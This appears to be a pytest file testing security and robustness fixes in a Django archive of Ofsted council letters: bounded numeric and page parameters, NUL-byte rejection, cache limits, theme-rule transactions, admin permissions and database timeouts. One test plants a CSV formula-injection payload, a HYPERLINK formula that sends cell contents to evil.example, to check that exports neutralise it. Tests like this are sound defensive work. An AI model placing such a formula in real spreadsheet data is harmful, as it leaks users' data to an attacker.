"""Issue 12, one test per finding: numeric parameters bounded before any conversion, NUL bytes, huge page numbers,
exports that refuse an invalid filter, spreadsheet formulas in CSV, bounded error pages and page cache, the theme
rules applied in bulk, the theme preview's permission, stale count tables caught up, and the database timeouts."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys

import pytest
from django.contrib.auth.models import Permission, User
from django.core.cache import cache
from django.core.management import call_command
from django.test.utils import CaptureQueriesContext

from letters.csv_safety import safe_cell
from letters.filters import MAX_VALUES_PER_PARAM, page_number
from letters.freshness import data_version
from letters.models import Authority, Finding, FindingTheme, Theme
from letters.services import themes as theme_service
from letters.services.count_tables import counts_are_current
from tests.conftest import ROOT, SAMPLE_DIR, SEARCH_URLS, ingest_quietly

pytestmark = pytest.mark.django_db

ODD_NUMBERS = [
    "-1e1000000",
    "-1e5000",
    "1e3",
    "9" * 5000,
    "-" + "9" * 4000,
    "nan",
    "Infinity",
    "-inf",
    "2020.5",
    "0x7e4",
    "1_999",
    "-5",
    "1899",
    "2101",
    "",
]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# ---------------------------------------------------------------------------------------------------------------------
# 1. Numbers bounded before any Decimal -> int conversion


@pytest.mark.parametrize("value", ODD_NUMBERS, ids=lambda v: repr(v[:12]))
@pytest.mark.parametrize("param", ["year_from", "year_to"])
@pytest.mark.parametrize("url", SEARCH_URLS)
def test_an_odd_year_is_refused_or_ignored_never_converted(client, archive, url, param, value):
    client.raise_request_exception = False
    response = client.get(url, {param: value})
    assert response.status_code == (200 if value == "" else 400)


@pytest.mark.parametrize("url", SEARCH_URLS)
def test_a_plain_year_still_filters(client, archive, url):
    assert client.get(url, {"year_from": "2015", "year_to": " 2023 "}).status_code == 200


@pytest.mark.parametrize(
    ("text", "number"),
    [("3", 3), ("0", 1), ("-2", 1), ("9223372036854775807", 1), ("9" * 5000, 1), ("1e3", 1), ("", 1), (None, 1)],
)
def test_page_numbers_are_plain_bounded_digits(text, number):
    assert page_number(text) == number
    assert page_number("123456789", last=40) == 40


@pytest.mark.parametrize("page", ["9223372036854775807", "-1e1000000", "9" * 5000, "\x00", "2"])
def test_a_huge_page_number_on_a_council_page_is_a_page_not_a_500(client, archive, page):
    client.raise_request_exception = False
    assert client.get("/councils/stoke-on-trent/", {"page": page}).status_code == 200
    assert client.get("/findings/", {"page": page}).status_code == 200


# ---------------------------------------------------------------------------------------------------------------------
# 6. NUL bytes and invalid filters in exports and feeds


@pytest.mark.parametrize("url", SEARCH_URLS[2:])
def test_a_nul_in_the_query_is_a_400_on_exports_and_feeds(client, archive, url):
    client.raise_request_exception = False
    response = client.get(url, {"q": "domestic\x00abuse"})
    assert response.status_code == 400


def test_a_nul_in_a_letter_key_is_a_400(client, archive):
    client.raise_request_exception = False
    assert client.get("/councils/stoke-on-trent/letters/2022-01-31%00/").status_code == 400
    assert client.get("/councils/stoke%00/").status_code in (400, 404)


@pytest.mark.parametrize("url", SEARCH_URLS[2:])
@pytest.mark.parametrize("query", [{"council": "no-such-council"}, {"region": "atlantis"}, {"sort": "sideways"}])
def test_an_export_or_feed_with_an_invalid_filter_answers_400_not_the_whole_archive(client, archive, url, query):
    response = client.get(url, query)
    assert response.status_code == 400
    assert b"letter_date" not in _body(response) and b"<entry>" not in _body(response)


# ---------------------------------------------------------------------------------------------------------------------
# 3. Spreadsheet formulas in CSV


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(start):
    assert safe_cell(f'{start}HYPERLINK("http://x")') == f'\'{start}HYPERLINK("http://x")'


def test_plain_cells_and_numbers_are_unchanged():
    assert safe_cell("Social workers visit") == "Social workers visit"
    assert safe_cell(-3) == -3 and safe_cell("") == "" and safe_cell(None) is None


def test_the_findings_csv_neutralises_a_formula_and_the_json_keeps_the_text(client, archive):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    finding = Finding.objects.order_by("pk").first()
    Finding.objects.filter(pk=finding.pk).update(text=formula)
    data_version.bump()
    rows = list(csv.DictReader(_body(client.get("/findings/export.csv")).decode("utf-8-sig").splitlines()))
    texts = [row["text"] for row in rows]
    assert "'" + formula in texts and formula not in texts
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert formula in [row["text"] for row in json.loads(_body(client.get("/findings/export.json")))]


# ---------------------------------------------------------------------------------------------------------------------
# 4. Oversized error pages, too many facet values, the page cache


def test_hundreds_of_unknown_councils_give_a_small_400_that_is_not_cached(client, archive):
    query = "&".join(f"council=nowhere-{n}" for n in range(300))
    response = client.get("/findings/?" + query)
    assert response.status_code == 400
    assert len(response.content) < 60_000
    half = client.get("/findings/?" + "&".join(f"council=nowhere-{n}" for n in range(150)))
    assert len(response.content) < 2.2 * len(half.content)  # linear in the query (its links), no toggle per value
    cache.clear()
    client.get("/letters/?" + query)
    assert not [key for key in cache._cache if ":page:" in key]  # noqa: SLF001 — LocMemCache's own dict


def test_more_values_than_the_cap_for_one_facet_is_a_400(client, archive):
    slugs = list(Authority.objects.values_list("slug", flat=True)[: MAX_VALUES_PER_PARAM + 1])
    if len(slugs) <= MAX_VALUES_PER_PARAM:
        slugs += ["stoke-on-trent"] * (MAX_VALUES_PER_PARAM + 1 - len(slugs))
    response = client.get("/findings/", {"council": slugs})
    assert response.status_code == 400 and f"at most {MAX_VALUES_PER_PARAM}" in response.content.decode()
    assert client.get("/findings/", {"council": slugs[:MAX_VALUES_PER_PARAM]}).status_code == 200


def test_only_successful_pages_up_to_the_size_limit_are_cached(client, archive, settings):
    cache.clear()
    assert client.get("/findings/").status_code == 200
    assert [key for key in cache._cache if ":page:" in key]  # noqa: SLF001
    cache.clear()
    settings.PAGE_CACHE_MAX_BYTES = 1000
    assert client.get("/findings/").status_code == 200
    assert not [key for key in cache._cache if ":page:" in key]  # noqa: SLF001


def test_the_cache_has_a_bounded_number_of_entries(settings):
    assert 0 < settings.CACHES["default"]["OPTIONS"]["MAX_ENTRIES"] <= 5000


# ---------------------------------------------------------------------------------------------------------------------
# 5. Apply theme rules: one transaction, one bump, history in bulk


def test_applying_theme_rules_bumps_the_version_once_and_writes_history_in_bulk(archive, django_user_model):
    user = django_user_model.objects.create_user("curator-x", is_staff=True)
    FindingTheme.objects.all().delete()  # every link must be put back: one "+" history row each
    history = FindingTheme.history.model
    before_history = history.objects.count()
    before = data_version.current()
    from django.db import connection

    with CaptureQueriesContext(connection) as queries:
        changed = theme_service.reapply_theme_rules(user=user)
    links = FindingTheme.objects.count()
    assert changed > 0 and links > 0
    assert data_version.current() == before + 1
    added = history.objects.filter(history_type="+").exclude(pk__in=[])
    assert history.objects.count() - before_history == links
    assert added.filter(history_user=user).count() == links
    assert len(queries.captured_queries) < 40  # no query per link or per finding
    # Nothing changes on a second run: no version bump, no history.
    assert theme_service.reapply_theme_rules() == 0
    assert data_version.current() == before + 1 and history.objects.count() - before_history == links


def test_a_run_that_fails_half_way_leaves_the_tags_as_they_were(archive, monkeypatch):
    monkeypatch.setattr(theme_service, "BATCH", 10)
    FindingTheme.objects.all().delete()
    version = data_version.current()
    calls = []

    def failing(ids):
        calls.append(ids)
        if len(calls) == 2:
            raise RuntimeError("killed")

    monkeypatch.setattr(theme_service, "refresh_theme_masks", failing)
    with pytest.raises(RuntimeError):
        theme_service.reapply_theme_rules()
    assert FindingTheme.objects.count() == 0 and data_version.current() == version


def test_curated_themes_are_kept_by_the_bulk_apply(archive):
    finding = Finding.objects.order_by("pk").first()
    theme = Theme.objects.order_by("pk").last()
    FindingTheme.objects.filter(finding=finding).delete()
    FindingTheme.objects.create(finding=finding, theme=theme)
    Finding.objects.filter(pk=finding.pk).update(curated_fields=["themes"])
    theme_service.reapply_theme_rules()
    assert list(FindingTheme.objects.filter(finding=finding).values_list("theme_id", flat=True)) == [theme.pk]


# ---------------------------------------------------------------------------------------------------------------------
# 6. The theme preview's permission; stale count tables; timeouts


def test_the_theme_preview_needs_the_view_permission(client, archive):
    theme = Theme.objects.first()
    user = User.objects.create_user("staff-no-perms", password="pw-for-tests-only", is_staff=True)
    client.force_login(user)
    assert client.get(f"/admin/letters/theme/{theme.pk}/preview/").status_code == 403
    user.user_permissions.add(Permission.objects.get(codename="view_theme"))
    client.force_login(User.objects.get(pk=user.pk))
    assert client.get(f"/admin/letters/theme/{theme.pk}/preview/").status_code == 200
    links = FindingTheme.objects.count()
    response = client.post(f"/admin/letters/theme/{theme.pk}/preview/", {"apply": "1"})
    assert response.status_code == 200 and FindingTheme.objects.count() == links  # viewing is not applying


def test_a_rerun_of_ingest_rebuilds_count_tables_left_stale_by_a_kill(archive):
    assert counts_are_current()
    data_version.bump()  # as a run killed between its last letter and the rebuild leaves it
    assert not counts_are_current()
    ingest_quietly(SAMPLE_DIR)  # every letter unchanged
    assert counts_are_current()


def _settings_with(env: dict[str, str], code: str) -> str:
    clean = {k: v for k, v in os.environ.items() if k not in {"DATABASE_URL", "DB_STATEMENT_TIMEOUT_MS"}}
    result = subprocess.run(
        [sys.executable, "-c", "import django; from django.conf import settings; django.setup(); " + code],
        cwd=ROOT,
        env={**clean, "DJANGO_SETTINGS_MODULE": "ofsted_archive.settings", **env},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


def test_postgres_connections_have_a_connect_and_a_statement_timeout():
    url = {"DATABASE_URL": "postgres://u@db.example:5432/archive"}
    options = json.loads(
        _settings_with(url, "import json; print(json.dumps(settings.DATABASES['default']['OPTIONS']))")
    )
    assert options["connect_timeout"] == 5 and "statement_timeout" not in options["options"]
    env = {**url, "DB_STATEMENT_TIMEOUT_MS": "10000", "DB_CONNECT_TIMEOUT": "2"}
    options = json.loads(
        _settings_with(env, "import json; print(json.dumps(settings.DATABASES['default']['OPTIONS']))")
    )
    assert options["connect_timeout"] == 2 and "-c statement_timeout=10000" in options["options"]


def test_the_web_server_entry_point_sets_a_statement_timeout():
    code = "import ofsted_archive.wsgi, os; print(os.environ['DB_STATEMENT_TIMEOUT_MS'])"
    assert _settings_with({}, code) == "10000"


def test_applying_one_theme_touches_only_that_themes_links(archive):
    theme = Theme.objects.filter(finding_links__isnull=False).order_by("position").first()
    others = set(FindingTheme.objects.exclude(theme=theme).values_list("pk", flat=True))
    FindingTheme.objects.filter(theme=theme).delete()
    FindingTheme.objects.exclude(theme=theme).filter(pk__in=list(others)[:3]).delete()  # not this theme's business
    kept = set(FindingTheme.objects.values_list("pk", flat=True))
    assert theme_service.reapply_theme_rules(themes=Theme.objects.filter(pk=theme.pk)) > 0
    assert FindingTheme.objects.filter(theme=theme).exists()
    assert set(FindingTheme.objects.exclude(theme=theme).values_list("pk", flat=True)) == kept


def test_the_apply_theme_rules_command_applies_the_named_themes_with_progress(archive):
    from io import StringIO

    theme = Theme.objects.filter(finding_links__isnull=False).order_by("position").first()
    FindingTheme.objects.filter(theme=theme).delete()
    out, err = StringIO(), StringIO()
    call_command("apply_theme_rules", theme.slug, stdout=out, stderr=err)
    assert FindingTheme.objects.filter(theme=theme).exists()
    assert "findings' tags changed" in out.getvalue() and "findings]" in err.getvalue()
    with pytest.raises(Exception, match="no such theme"):
        call_command("apply_theme_rules", "no-such-theme", stdout=out, stderr=err)
